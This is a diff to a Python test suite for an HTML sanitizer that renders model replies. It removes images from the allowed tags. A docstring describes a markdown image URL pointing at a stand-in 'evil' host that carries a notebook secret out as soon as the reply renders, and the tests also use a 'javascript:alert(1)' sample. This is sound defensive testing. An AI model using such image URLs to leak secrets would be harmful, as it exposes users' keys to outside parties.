@@ -28,9 +28,9 @@ def shell():
 
 # The spec's allow-list, spelled out (not read back from the module under test).
 TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li",
-        "strong", "em", "s", "del", "code", "pre", "a", "img", "table", "thead", "tbody", "tr", "th", "td",
-        "details", "summary"}
-ATTRIBUTES = {"a": {"href", "title", "rel"}, "img": {"src", "alt", "title"}, "ol": {"start"},
+        "strong", "em", "s", "del", "code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td",
+        "details", "summary"}  # no img: an image loads (and leaks its URL) without a click
+ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"},
               "details": {"class"}}
 SCHEMES = ("http:", "https:", "mailto:")
 REL = "noopener noreferrer nofollow"
@@ -120,7 +120,9 @@ def test_the_checker_rejects_active_html(bad):
 
 def test_the_checker_accepts_the_allowed_forms():
     inert(f"<p><a href='https://a.b' rel='{REL}'>x</a> <a href='HTTP://A.B'>y</a> "
-          f"<a href='mailto:a@b.c'>z</a> <img src='https://a.b/i.png' alt='i'></p><ol start='3'><li>x</li></ol>")
+          f"<a href='mailto:a@b.c'>z</a></p><ol start='3'><li>x</li></ol>")
+    with pytest.raises(AssertionError):  # the checker refuses an image, whatever its URL
+        inert("<p><img src='https://a.b/i.png' alt='i'></p>")
 
 
 # -- payloads: one table ------------------------------------------------------------------------
@@ -205,7 +207,7 @@ def test_the_sanitizer_alone_holds_the_allow_list(raw):
 def test_the_sanitizer_keeps_allowed_links_with_rel():
     p = inert(safe_html.sanitize("<a href='https://ok.example/a' title='t'>a</a><img src='http://ok.example/i.png'>"))
     assert p.tags("a") == [{"href": "https://ok.example/a", "title": "t", "rel": REL}]
-    assert p.tags("img") == [{"src": "http://ok.example/i.png"}]
+    assert p.tags("img") == []  # even an http image: it would load without a click
 
 
 def test_the_bundle_is_html_and_text_never_markdown():
@@ -243,9 +245,15 @@ def test_http_https_mailto_links_keep_their_href(md, href):
     assert a == {"href": href, "rel": REL}
 
 
-def test_an_https_image_keeps_its_src():
-    (img,) = inert(markdown_html('![a chart](https://example.com/c.png "Chart")')).tags("img")
-    assert img == {"src": "https://example.com/c.png", "alt": "a chart", "title": "Chart"}
+def test_an_image_is_a_link_that_waits_for_a_click():
+    """A model can put a notebook's secret into an image URL (`![](https://evil/?k=...)`);
+    an <img> would send it the moment the reply renders. A link sends nothing unclicked."""
+    p = inert(markdown_html('![a chart](https://example.com/c.png?k=sk-123 "Chart")'))
+    assert p.tags("img") == []
+    assert p.tags("a") == [{"href": "https://example.com/c.png?k=sk-123", "rel": REL}]
+    assert "[image: a chart]" in markdown_html('![a chart](https://example.com/c.png)')
+    # A scheme that is not allowed loses its link as before; the text stays.
+    assert inert(markdown_html("![i](javascript:alert(1))")).tags("a") == []
 
 
 def test_headings_lists_emphasis_quotes_render():
